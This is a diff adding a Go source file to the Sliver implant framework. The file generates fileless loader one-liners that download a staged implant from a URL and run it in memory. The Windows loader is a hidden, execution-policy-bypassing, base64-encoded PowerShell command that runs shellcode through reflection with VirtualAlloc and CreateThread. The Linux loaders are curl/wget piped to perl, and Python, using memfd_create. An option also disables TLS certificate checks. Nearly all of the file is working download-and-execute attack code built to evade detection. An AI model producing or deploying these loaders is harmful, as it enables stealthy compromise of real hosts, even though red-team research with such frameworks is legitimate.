@@ -0,0 +1,296 @@
+package generate
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"encoding/base64"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"net/url"
+	"strings"
+	"unicode/utf16"
+
+	"github.com/spf13/cobra"
+
+	"github.com/bishopfox/sliver/client/console"
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+)
+
+const (
+	// LoaderPowerShell - Reflective shellcode runner for Windows PowerShell
+	LoaderPowerShell = "powershell"
+	// LoaderBash - memfd_create(2) executable runner for bash
+	LoaderBash = "bash"
+	// LoaderPython - ctypes shellcode runner (windows) or memfd executable runner (linux)
+	LoaderPython = "python"
+)
+
+var (
+	// LoaderTypes - All of the loader types, in the order they're printed
+	LoaderTypes = []string{LoaderPowerShell, LoaderBash, LoaderPython}
+
+	// ErrNoLoaders - The build's platform/format has no memory-only loaders
+	ErrNoLoaders = errors.New("no memory-only loaders for this build, use a windows shellcode or linux executable build")
+
+	// memfd_create(2) syscall numbers, perl's syscall() only takes numbers
+	memfdCreateSyscalls = map[string]int{
+		"amd64": 319,
+		"386":   356,
+		"arm64": 279,
+	}
+)
+
+// Loader - A one-liner that fetches a stage and runs it without touching disk
+type Loader struct {
+	Type    string
+	Command string
+}
+
+// GenerateLoaderCmd - Print memory-only loader one-liners for a staged build
+func GenerateLoaderCmd(cmd *cobra.Command, con *console.SliverConsoleClient, args []string) {
+	stageURL, _ := cmd.Flags().GetString("url")
+	implantName, _ := cmd.Flags().GetString("implant")
+	profileName, _ := cmd.Flags().GetString("profile")
+	types, _ := cmd.Flags().GetStringSlice("type")
+	prependSize, _ := cmd.Flags().GetBool("prepend-size")
+	insecure, _ := cmd.Flags().GetBool("insecure")
+
+	if stageURL == "" {
+		con.PrintErrorf("Must specify the staging url (--url)\n")
+		return
+	}
+
+	var config *clientpb.ImplantConfig
+	switch {
+	case implantName != "" && profileName != "":
+		con.PrintErrorf("Specify either --implant or --profile, not both\n")
+		return
+	case implantName != "":
+		config = ImplantBuildByName(implantName, con)
+		if config == nil {
+			con.PrintErrorf("No implant build named %s\n", implantName)
+			return
+		}
+	case profileName != "":
+		profile := GetImplantProfileByName(profileName, con)
+		if profile == nil {
+			con.PrintErrorf("No profile named %s\n", profileName)
+			return
+		}
+		config = profile.Config
+	default:
+		con.PrintErrorf("Must specify the staged build (--implant or --profile)\n")
+		return
+	}
+
+	loaders, err := Loaders(config, stageURL, prependSize, insecure, types)
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+	for _, loader := range loaders {
+		con.Println()
+		con.PrintInfof("%s (%s/%s)\n", loader.Type, config.GOOS, config.GOARCH)
+		con.Println(loader.Command)
+	}
+	con.Println()
+	con.PrintWarnf("The stage must be served without compression or encryption\n")
+}
+
+// Loaders - Build the one-liners of types (all if empty) that run the stage of config
+// served from stageURL, prependSize must match the stage listener's --prepend-size
+func Loaders(config *clientpb.ImplantConfig, stageURL string, prependSize bool, insecure bool, types []string) ([]*Loader, error) {
+	if err := validateStageURL(stageURL); err != nil {
+		return nil, err
+	}
+	all := len(types) == 0
+	if all {
+		types = LoaderTypes
+	}
+	loaders := []*Loader{}
+	for _, loaderType := range types {
+		var command string
+		var err error
+		switch strings.ToLower(loaderType) {
+		case LoaderPowerShell:
+			command, err = powershellLoader(config, stageURL, prependSize, insecure)
+		case LoaderBash:
+			command, err = bashLoader(config, stageURL, prependSize, insecure)
+		case LoaderPython:
+			command, err = pythonLoader(config, stageURL, prependSize, insecure)
+		default:
+			return nil, fmt.Errorf("unknown loader type '%s' (valid types are %s)", loaderType, strings.Join(LoaderTypes, ", "))
+		}
+		if errors.Is(err, ErrNoLoaders) && all {
+			continue // Only an error when the type was asked for
+		}
+		if err != nil {
+			return nil, fmt.Errorf("%s: %w", loaderType, err)
+		}
+		loaders = append(loaders, &Loader{Type: strings.ToLower(loaderType), Command: command})
+	}
+	if len(loaders) == 0 {
+		return nil, ErrNoLoaders
+	}
+	return loaders, nil
+}
+
+// validateStageURL - The url is pasted verbatim into quoted strings of every loader,
+// so anything that could break out of the quoting is rejected
+func validateStageURL(stageURL string) error {
+	parsed, err := url.Parse(stageURL)
+	if err != nil {
+		return err
+	}
+	if parsed.Scheme != "http" && parsed.Scheme != "https" {
+		return fmt.Errorf("staging url must be http or https")
+	}
+	if parsed.Host == "" {
+		return fmt.Errorf("staging url has no host")
+	}
+	if strings.ContainsAny(stageURL, "'\"`$\\;&| \t\r\n") {
+		return fmt.Errorf("staging url contains characters that can't be safely quoted")
+	}
+	return nil
+}
+
+// loaderProcessName - argv[0] of the exec'd implant, the build name when it's safe to quote
+func loaderProcessName(config *clientpb.ImplantConfig) string {
+	if config.Name == "" || strings.Trim(config.Name, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-.") != "" {
+		return "sliver"
+	}
+	return config.Name
+}
+
+func isWindowsShellcode(config *clientpb.ImplantConfig) bool {
+	return config.GOOS == "windows" && config.Format == clientpb.OutputFormat_SHELLCODE
+}
+
+func isLinuxExecutable(config *clientpb.ImplantConfig) bool {
+	return config.GOOS == "linux" && config.Format == clientpb.OutputFormat_EXECUTABLE
+}
+
+// powershellLoader - Resolves kernel32 exports and builds delegate types in memory with
+// reflection, so neither Add-Type (which compiles to disk) nor an IEX of a remote script is used
+func powershellLoader(config *clientpb.ImplantConfig, stageURL string, prependSize bool, insecure bool) (string, error) {
+	if !isWindowsShellcode(config) {
+		return "", ErrNoLoaders
+	}
+	script := []string{}
+	if insecure {
+		script = append(script, "[Net.ServicePointManager]::ServerCertificateValidationCallback={$true}")
+	}
+	script = append(script, fmt.Sprintf("$b=(New-Object Net.WebClient).DownloadData('%s')", stageURL))
+	if prependSize {
+		script = append(script, "$b=$b[4..($b.Length-1)]")
+	}
+	script = append(script,
+		"function P($m){$u=([AppDomain]::CurrentDomain.GetAssemblies()|?{$_.GlobalAssemblyCache -and $_.Location.Split('\\')[-1] -eq 'System.dll'}).GetType('Microsoft.Win32.UnsafeNativeMethods');$h=$u.GetMethod('GetModuleHandle').Invoke($null,@('kernel32.dll'));$u.GetMethod('GetProcAddress',[Type[]]@([Runtime.InteropServices.HandleRef],[string])).Invoke($null,@((New-Object Runtime.InteropServices.HandleRef((New-Object IntPtr),$h)),$m))}",
+		"function D($a,$r){$t=[AppDomain]::CurrentDomain.DefineDynamicAssembly((New-Object Reflection.AssemblyName('D')),'Run').DefineDynamicModule('D',$false).DefineType('T','Class,Public,Sealed,AnsiClass,AutoClass',[MulticastDelegate]);$t.DefineConstructor('RTSpecialName,HideBySig,Public','Standard',$a).SetImplementationFlags('Runtime,Managed');$t.DefineMethod('Invoke','Public,HideBySig,NewSlot,Virtual',$r,$a).SetImplementationFlags('Runtime,Managed');$t.CreateType()}",
+		"$f=[Runtime.InteropServices.Marshal]",
+		"$v=$f::GetDelegateForFunctionPointer((P VirtualAlloc),(D @([IntPtr],[UInt32],[UInt32],[UInt32]) ([IntPtr]))).Invoke([IntPtr]::Zero,$b.Length,0x3000,0x40)",
+		"$f::Copy($b,0,$v,$b.Length)",
+		"$t=$f::GetDelegateForFunctionPointer((P CreateThread),(D @([IntPtr],[UInt32],[IntPtr],[IntPtr],[UInt32],[IntPtr]) ([IntPtr]))).Invoke([IntPtr]::Zero,0,$v,[IntPtr]::Zero,0,[IntPtr]::Zero)",
+		"[void]$f::GetDelegateForFunctionPointer((P WaitForSingleObject),(D @([IntPtr],[UInt32]) ([UInt32]))).Invoke($t,[UInt32]::MaxValue)",
+	)
+
+	// The shellcode has to run in a process of the same architecture
+	powershell := "powershell.exe"
+	if config.GOARCH == "386" {
+		powershell = `%SystemRoot%\SysWOW64\WindowsPowerShell\v1.0\powershell.exe`
+	}
+	return fmt.Sprintf("%s -nop -w hidden -ep bypass -enc %s", powershell, encodePowerShell(strings.Join(script, ";"))), nil
+}
+
+// encodePowerShell - -EncodedCommand takes base64 of UTF-16LE
+func encodePowerShell(script string) string {
+	runes := utf16.Encode([]rune(script))
+	buf := make([]byte, len(runes)*2)
+	for index, r := range runes {
+		binary.LittleEndian.PutUint16(buf[index*2:], r)
+	}
+	return base64.StdEncoding.EncodeToString(buf)
+}
+
+// bashLoader - Writes the executable to an anonymous memfd_create(2) file with perl, which
+// is on nearly every linux host, and execs it from /proc
+func bashLoader(config *clientpb.ImplantConfig, stageURL string, prependSize bool, insecure bool) (string, error) {
+	if !isLinuxExecutable(config) {
+		return "", ErrNoLoaders
+	}
+	syscall, ok := memfdCreateSyscalls[config.GOARCH]
+	if !ok {
+		return "", fmt.Errorf("no memfd_create syscall number for %s", config.GOARCH)
+	}
+	curl := "curl -fsSL"
+	wget := "wget -qO-"
+	if insecure {
+		curl += " -k"
+		wget += " --no-check-certificate"
+	}
+	fetch := fmt.Sprintf("(%s '%s'||%s '%s')", curl, stageURL, wget, stageURL)
+	if prependSize {
+		fetch += "|tail -c +5"
+	}
+	perl := fmt.Sprintf(`$n="";$f=syscall(%d,$n,0);open($o,">&=".$f)or die;binmode $o;$/=undef;print $o <STDIN>;exec{"/proc/$$/fd/$f"}"%s"`, syscall, loaderProcessName(config))
+	return fmt.Sprintf("%s|perl -e '%s'", fetch, perl), nil
+}
+
+// pythonLoader - ctypes shellcode runner on windows, os.memfd_create (python 3.8+) on linux
+func pythonLoader(config *clientpb.ImplantConfig, stageURL string, prependSize bool, insecure bool) (string, error) {
+	imports := "import urllib.request as u"
+	fetch := fmt.Sprintf("u.urlopen('%s')", stageURL)
+	if insecure {
+		imports += ",ssl"
+		fetch = fmt.Sprintf("u.urlopen('%s',context=ssl._create_unverified_context())", stageURL)
+	}
+	fetch += ".read()"
+	if prependSize {
+		fetch += "[4:]"
+	}
+
+	switch {
+	case isWindowsShellcode(config):
+		python := strings.Join([]string{
+			imports + ",ctypes as c",
+			"b=" + fetch,
+			"k=c.windll.kernel32",
+			"k.VirtualAlloc.restype=c.c_void_p",
+			"k.VirtualAlloc.argtypes=[c.c_void_p,c.c_size_t,c.c_ulong,c.c_ulong]",
+			"k.CreateThread.restype=c.c_void_p",
+			"k.CreateThread.argtypes=[c.c_void_p,c.c_size_t,c.c_void_p,c.c_void_p,c.c_ulong,c.c_void_p]",
+			"k.WaitForSingleObject.argtypes=[c.c_void_p,c.c_ulong]",
+			"p=k.VirtualAlloc(None,len(b),0x3000,0x40)",
+			"c.memmove(p,b,len(b))",
+			"k.WaitForSingleObject(k.CreateThread(None,0,p,None,0,None),0xFFFFFFFF)",
+		}, ";")
+		return fmt.Sprintf(`python -c "%s"`, python), nil
+
+	case isLinuxExecutable(config):
+		python := strings.Join([]string{
+			imports + ",os",
+			"f=os.memfd_create('',0)",
+			"os.write(f," + fetch + ")",
+			fmt.Sprintf("os.execv('/proc/self/fd/%%d'%%f,['%s'])", loaderProcessName(config)),
+		}, ";")
+		return fmt.Sprintf(`python3 -c "%s"`, python), nil
+	}
+	return "", ErrNoLoaders
+}